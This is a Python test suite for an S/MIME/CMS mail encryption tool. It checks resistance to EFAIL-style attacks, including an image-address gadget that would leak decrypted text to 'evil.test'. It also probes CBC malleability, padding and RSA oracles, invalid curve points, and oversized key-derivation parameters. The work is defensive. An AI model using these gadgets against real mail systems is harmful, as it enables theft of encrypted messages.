#!/usr/bin/env python3
# SPDX-License-Identifier: ISC
"""B1 to B20: ciphertexts of others, altered ciphertexts, oracles."""
import os

import forge
import seal
from der import ctx, integer, octets, oid, seq, tlv
from forge import (BODY, ENTITY, alg, encrypt, encrypted, fields, multipart, opaque,
                   signed_entity, text)
from judge import Differs, Found, case, run

BOB = "--identity", "bob.pem"
EVIL = b"Please answer this.\r\n"


def mail(entity, *header, **more):
    return fields(*header, **more) + entity


def found(cms, kind="enveloped-data"):
    return Found(mail(opaque(cms, kind)), *BOB)


def gcm_mail(cek, recipients=None, **how):
    recipients = recipients or [seal.ktri("bob", cek)]
    return found(seal.auth_enveloped(recipients, cek, ENTITY, **how), "authEnveloped-data")


@case("B0 control: forged envelopes open when nothing is wrong with them")
def _():
    for size in 16, 32:
        cek = seal.new_key(size)
        gcm_mail(cek).summary("encrypted").writes(BODY)
        found(seal.enveloped([seal.ktri("bob", cek)], cek, ENTITY)).summary("encrypted").writes(
            BODY)
    cek = seal.new_key()
    gcm_mail(cek, [seal.ktri("bob", cek, oaep=True)]).summary("encrypted").writes(BODY)
    kind = forge.attribute(forge.CONTENT_TYPE, oid(forge.DATA))
    gcm_mail(cek, attributes=[kind]).summary("encrypted").writes(BODY)


@case("B1 the ciphertext between two halves of a picture's address")
def _():
    for cipher in "-aes-128-cbc", "-aes-256-gcm":
        whole = multipart(text(b"<img src=\"http://evil.test/", "html"),
                          encrypted(ENTITY, "bob", cipher=cipher), text(b"\">", "html"))
        f = Found(mail(whole), *BOB).errant().writes(whole).writes_no(BODY)
        f.want("confidentiality", f.json["confidentiality"], "none")


def flipped(data, at, mask):
    return data[:at] + bytes([data[at] ^ mask]) + data[at + 1:]


@case("B2 CBC: known text of the first block exchanged")
def _():
    cek, iv = seal.new_key(), os.urandom(16)
    old, new = ENTITY[:16], b"Content-Type: te"[:8] + b"xYZ: tex"
    changed = bytes(a ^ b ^ c for a, b, c in zip(iv, old, new))
    sealed = seal.cbc(cek, iv, ENTITY)
    cms = seal.enveloped([seal.ktri("bob", cek)], cek, ENTITY, iv=changed, sealed=sealed)
    f = found(cms).summary("encrypted").warns("no-integrity")
    f.want("confidentiality", f.json["confidentiality"], "encrypted")


@case("B2 CBC: blocks exchanged under a signature")
def _():
    cek, iv = seal.new_key(), bytes(16)
    signed = signed_entity()
    sealed = seal.cbc(cek, iv, signed)
    at = signed.index(b"Pay Bob") // 16 * 16
    sealed = flipped(sealed, at - 16, 1)
    cms = seal.enveloped([seal.ktri("bob", cek)], cek, signed, iv=iv, sealed=sealed)
    f = found(cms).summary("encrypted").states("invalid content-changed").warns("no-integrity")
    f.never_says("alice@")
    whole = seal.enveloped([seal.ktri("bob", cek)], cek, signed)
    found(whole).summary("sealed").quiet("no-integrity")


@case("B2 CBC: padding wrong or the last block missing")
def _():
    cek = seal.new_key()
    sealed = seal.cbc(cek, bytes(16), ENTITY)
    for bad in sealed[:-1], sealed[:-5], b"", sealed[:7]:
        found(seal.enveloped([seal.ktri("bob", cek)], cek, ENTITY, sealed=bad)).broken("decrypt")


@case("B3 a ciphertext of others hidden in a mail that wants an answer")
def _():
    for cipher in "-aes-128-cbc", "-aes-256-gcm":
        theirs = encrypted(ENTITY, "bob", cipher=cipher)
        attached = (b"Content-Type: message/rfc822\r\n\r\n" + mail(theirs))
        for whole in (multipart(text(EVIL), theirs), multipart(theirs, text(EVIL)),
                      multipart(text(EVIL), theirs, kind="alternative"),
                      multipart(text(EVIL, "html"), b"Content-ID: <x>\r\n" + theirs,
                                kind="related"),
                      multipart(text(EVIL), attached),
                      multipart(multipart(theirs, boundary="=_n"), text(EVIL))):
            for opening in [], ["--all-parts"]:
                f = Found(mail(whole), *BOB, opening=opening).errant().writes(EVIL)
                f.writes_no(BODY, b"Pay Bob")


@case("B3 a ciphertext of others within what is signed or encrypted")
def _():
    theirs = encrypted(ENTITY, "bob")
    mixed = multipart(text(EVIL), theirs)
    f = Found(mail(signed_entity(mixed, "mallory"), "mallory@evil.test"), *BOB)
    f.summary("signed").warns("errant-layer").writes(EVIL).writes_no(b"Pay Bob")
    f = Found(mail(encrypted(mixed, "bob")), *BOB).summary("encrypted").warns("errant-layer")
    f.writes(EVIL).writes_no(b"Pay Bob")


@case("B4 the key of an authenticated message on CBC")
def _():
    cek = seal.new_key(32)
    theirs, _ = seal.gcm(cek, bytes(12), ENTITY)
    theirs = theirs[:len(theirs) // 16 * 16]
    f = found(seal.enveloped([seal.ktri("bob", cek)], cek, b"", sealed=theirs))
    if f.json["summary"] != "broken":
        f.summary("encrypted").warns("no-integrity")
        f.want("confidentiality", f.json["confidentiality"], "encrypted")
    f.writes_no(b"Pay Bob")


@case("B4 ciphers in the wrong kind of envelope")
def _():
    cek = seal.new_key()
    to = [seal.ktri("bob", cek)]
    cbc = alg(seal.CBC[16], octets(bytes(16)))
    sealed = seal.cbc(cek, bytes(16), ENTITY)
    for mac in b"", bytes(16):
        found(seal.auth_enveloped(to, cek, ENTITY, algorithm=cbc, sealed=sealed, mac=mac),
              "authEnveloped-data").broken()
    sealed, _ = seal.gcm(cek, bytes(12), ENTITY)
    gcm = alg(seal.GCM[16], seq(octets(bytes(12)), integer(16)))
    found(seal.enveloped(to, cek, b"", sealed=sealed, algorithm=gcm)).broken()


def reports(cases):
    """What the program tells of each; all must be one."""
    seen = set()
    for cms in cases:
        f = found(cms, "authEnveloped-data").broken("decrypt")
        error = f.json["error"]
        seen.add((f.status, f.open_status, f.talk, str(error)))
    if len(seen) != 1:
        raise Differs("the failures can be told apart: %s" % sorted(seen))


@case("B5 PKCS #1 v1.5: every failure is the same")
def _():
    cek, other = seal.new_key(), seal.new_key()
    good = b"\0\2" + b"\x55" * (256 - 3 - 16) + b"\0" + cek
    blocks = [good[:2] + b"\x55" * 237 + b"\1" + cek,		# no end of the padding
              b"\1" + good[1:], b"\0\1" + good[2:],		# another start
              good[:5] + b"\0" + good[6:],			# padding too short
              b"\0\2" + b"\x55" * 237 + b"\0" + cek[:15] + b"",	# a key too short
              b"\0\2" + b"\x55" * 236 + b"\0" + cek + b"\0",	# too long
              bytes(256), b"\0\2" + b"\x55" * 253 + b"\0"]
    blocks = [b[:256].ljust(256, b"\x77") for b in blocks]
    cases = [seal.auth_enveloped([seal.ktri("bob", cek, seal.raw_rsa("bob", b))], cek, ENTITY)
             for b in blocks]
    cases += [seal.auth_enveloped([seal.ktri("bob", other)], cek, ENTITY),
              seal.auth_enveloped([seal.ktri("bob", cek)], cek, ENTITY, mac=bytes(16))]
    reports(cases)


@case("B6 OAEP: every failure is the same")
def _():
    cek = seal.new_key()
    good = seal.rsa_encrypt("bob", cek, *seal.OAEP)
    cases = [seal.auth_enveloped([seal.ktri("bob", cek, e, oaep=True)], cek, ENTITY)
             for e in (seal.raw_rsa("bob", b"\1" + bytes(255)), seal.raw_rsa("bob", bytes(256)),
                       flipped(good, 200, 1), seal.rsa_encrypt("bob", cek),
                       seal.rsa_encrypt("bob", seal.new_key(), *seal.OAEP))]
    reports(cases)


@case("B7 the same recipient several times")
def _():
    cek, wrong = seal.new_key(), seal.new_key()
    bad, good = seal.ktri("bob", wrong), seal.ktri("bob", cek)
    gcm_mail(cek, [bad, good]).summary("encrypted").writes(BODY)
    gcm_mail(cek, [bad] * 7 + [good]).summary("encrypted").writes(BODY)
    gcm_mail(cek, [bad] * 8 + [good]).broken("decrypt")


@case("B7 thousands of recipients cost nothing")
def _():
    cek = seal.new_key()
    theirs, good = seal.ktri("mallory", cek, bytes(256)), seal.ktri("bob", cek)
    f = gcm_mail(cek, [theirs] * 9999 + [good]).summary("encrypted").writes(BODY)
    f.quick()
    gcm_mail(cek, [theirs] * 10000 + [good]).broken("limit")
    gcm_mail(cek, [seal.ktri("bob", cek, bytes(256))] * 9999).broken("decrypt")


@case("B8 weak ciphers are never sent")
def _():
    forge.write("draft.eml", mail(ENTITY))
    for cipher in "des-ede3-cbc", "3des", "rc2-40-cbc", "rc2-128-cbc", "des-cbc":
        p = run("encrypt", "draft.eml", "--to", "bob.crt", "--cipher", cipher, "-o", "no.eml")
        if p.returncode == 0 or os.path.exists("no.eml"):
            raise Differs("%s was sent" % cipher)


@case("B10 short tags and tags of another length")
def _():
    cek = seal.new_key()
    for n in 12, 13, 14, 15, 16:
        gcm_mail(cek, icv=n).summary("encrypted").writes(BODY)
    gcm_mail(cek, icv=None).summary("encrypted").writes(BODY)
    for n in 0, 1, 4, 8, 11, 17:
        gcm_mail(cek, icv=n).broken()
    full = seal.gcm(cek, bytes(12), ENTITY)[1]
    for icv, n in (16, 12), (16, 4), (16, 0), (12, 16), (None, 16), (None, 4), (14, 12):
        gcm_mail(cek, icv=icv, mac=full[:n]).broken()


@case("B11 nonces of odd lengths")
def _():
    cek = seal.new_key()
    gcm_mail(cek, nonce=b"").broken()
    for n in 1, 8, 16, 64:
        f = gcm_mail(cek, nonce=os.urandom(n))
        if f.json["summary"] != "broken":
            f.summary("encrypted").writes(BODY)
    for n in 65, 1000, 60000:
        gcm_mail(cek, nonce=bytes(n), sealed=b"x" * 30, mac=bytes(16)).broken()


@case("B11 parameters that are longer than they say, or none")
def _():
    cek = seal.new_key()
    for params in (b"", b"\5\0", seq(), octets(bytes(12)), seq(octets(bytes(12)), integer(-1)),
                   seq(octets(bytes(12)), integer(1 << 70)), seq(tlv(4, b"x") + b"\4\x7f"),
                   seq(octets(bytes(12)), integer(16), integer(16))):
        gcm_mail(cek, algorithm=alg(seal.GCM[16], params)).broken()


@case("B12 authenticated encryption does not name a sender")
def _():
    f = gcm_mail(seal.new_key()).summary("encrypted").states()
    f.never_says("alice")
    f.want("the status", f.json["status"], "encrypted-unverified")


@case("B13 truncated and altered authenticated messages write nothing")
def _():
    der = encrypt(ENTITY * 300, "bob", cipher="-aes-256-gcm")
    whole = mail(opaque(der, "authEnveloped-data"))
    for part in 0.2, 0.5, 0.9, 0.99:
        cut = whole[:int(len(whole) * part)]
        Found(cut, *BOB).broken()
        forge.write("cut.eml", cut)
        if run("open", *BOB, "cut.eml").stdout != b"":
            raise Differs("something went to standard output")
    for at in 500, len(der) // 2, len(der) - 3:
        altered = forge.write("cut.eml", mail(opaque(flipped(der, at, 1), "authEnveloped-data")))
        if run("open", *BOB, altered).stdout != b"":
            raise Differs("something went to standard output")


@case("B14 messages of failure hold no plaintext")
def _():
    cek = seal.new_key()
    f = gcm_mail(cek, mac=bytes(16)).broken("decrypt")
    if "Pay Bob" in f.talk + str(f.json):
        raise Differs("plaintext in the report")
    sealed = seal.cbc(cek, bytes(16), ENTITY)[:-16]
    f = found(seal.enveloped([seal.ktri("bob", cek)], cek, ENTITY, sealed=sealed))
    if "Pay Bob" in f.talk + str(f.json):
        raise Differs("plaintext in the report")


@case("B15 CBC: wrong padding, wrong key and wrong length are one failure")
def _():
    cek = seal.new_key()
    sealed = seal.cbc(cek, bytes(16), ENTITY)
    tail = ENTITY[len(ENTITY) // 16 * 16:]
    pad = 16 - len(tail)

    def last(octet):
        """The message with another last octet of its padding."""
        at = len(sealed) - 17
        return flipped(sealed, at, pad ^ octet)
    seen = set()
    for bad in last(0), last(17), last(255), sealed[:-3], b"":
        f = found(seal.enveloped([seal.ktri("bob", cek)], cek, b"", sealed=bad)).broken("decrypt")
        seen.add((f.status, f.open_status, f.talk, str(f.json["error"])))
    if len(seen) != 1:
        raise Differs("the failures can be told apart: %s" % sorted(seen))


@case("B16 nobody else's certificate is taken for a recipient")
def _():
    forge.write("draft.eml", mail(ENTITY, to="bob@good.test"))
    for i, how in enumerate(({"address": "mallory@evil.test", "cn": "bob@good.test"},
                             {"address": "bob@good.test.evil.test"}, {"address": "BOB@good.test"},
                             {"address": "bob@evil.test", "cn": "Bob"})):
        forge.add_person("notbob%d" % i, kind="rsa2048", **how)
        p = run("encrypt", "draft.eml", "--cert", "notbob%d.crt" % i, "-o", "no.eml")
        if p.returncode == 0 or os.path.exists("no.eml"):
            raise Differs("encrypted to the certificate of %s" % how)


def agreement(point, kind):
    """A kari for the person `agree` with this originator key."""
    keys = seq(tlv(0x30, forge.issuer_and_serial("agree"), octets(bytes(24))))
    scheme = "1.3.132.1.11.1" if kind == "P-256" else "1.2.840.113549.1.9.16.3.19"
    algorithm = "1.2.840.10045.2.1" if kind == "P-256" else "1.3.101.110"
    return ctx(1, integer(3), ctx(0, ctx(1, alg(algorithm), tlv(3, b"\0" + point))),
               alg(scheme, alg(seal.WRAP[16])), keys)


@case("B18 points of small order and off the curve")
def _():
    seen = set()
    off = b"\4" + bytes(31) + b"\1" + bytes(31) + b"\1"
    for kind, points in (("P-256", [off, b"\0", b"\4" + bytes(64), b"", b"\6" + bytes(64)]),
                         ("X25519", [bytes(32), b"\1" + bytes(31), b"\xff" * 32, bytes(31)])):
        forge.make_key("agree", kind)
        if kind == "X25519":
            x25519_person()
        else:
            forge.certify("agree", forge.person("bob@good.test"), "root")
        cek = seal.new_key()
        for point in points:
            cms = seal.auth_enveloped([agreement(point, kind)], cek, ENTITY)
            f = Found(mail(opaque(cms, "authEnveloped-data")), "--identity", "agree.pem")
            f.broken("decrypt")
            seen.add((f.talk, str(f.json["error"])))
    if len(seen) != 1:
        raise Differs("the failures can be told apart: %s" % sorted(seen))


def x25519_person():
    """The key cannot sign its request, so the certificate gets it afterwards."""
    forge.openssl("pkey", "-in", "agree.key", "-pubout", "-out", "agree.pub")
    config = forge.write("agree.cnf", ("[x]\n" + "\n".join(forge.person(
        "bob@good.test", usage="keyAgreement"))).encode())
    forge.openssl("x509", "-new", "-subj", "/CN=agree", "-force_pubkey", "agree.pub", "-CA",
                  "root.crt", "-CAkey", "root.key", "-days", "30", "-set_serial", "77",
                  "-extfile", config, "-extensions", "x", "-out", "agree.crt")
    forge.write("agree.pem", forge.read("agree.key") + forge.read("agree.crt"))
    forge.cert_der.cache_clear()


def password_recipient(iterations):
    pbkdf2 = tlv(0xa0, oid("1.2.840.113549.1.5.12"),
                 seq(octets(bytes(16)), integer(iterations),
                     alg("1.2.840.113549.2.9", b"\5\0")))
    wrap = alg("1.2.840.113549.1.9.16.3.9", alg(seal.CBC[16], octets(bytes(16))))
    return ctx(3, integer(0), pbkdf2, wrap, octets(bytes(48)))


@case("B19 password recipients that ask for too many rounds")
def _():
    forge.write("password", b"secret\n")
    for iterations in 10000001, 1 << 31, 1 << 62, 1 << 100, 0, -1:
        cms = seal.auth_enveloped([password_recipient(iterations)], seal.new_key(), ENTITY)
        f = Found(mail(opaque(cms, "authEnveloped-data")), "--password-file", "password").broken()
        f.quick(5)


@case("B20 encryption alone never names a sender")
def _():
    for cipher in "-aes-128-cbc", "-aes-256-gcm":
        f = Found(mail(encrypted(ENTITY, "bob", cipher=cipher)), *BOB).summary("encrypted")
        f.states().never_says("alice")
        f.want("the status", f.json["status"], "encrypted-unverified")
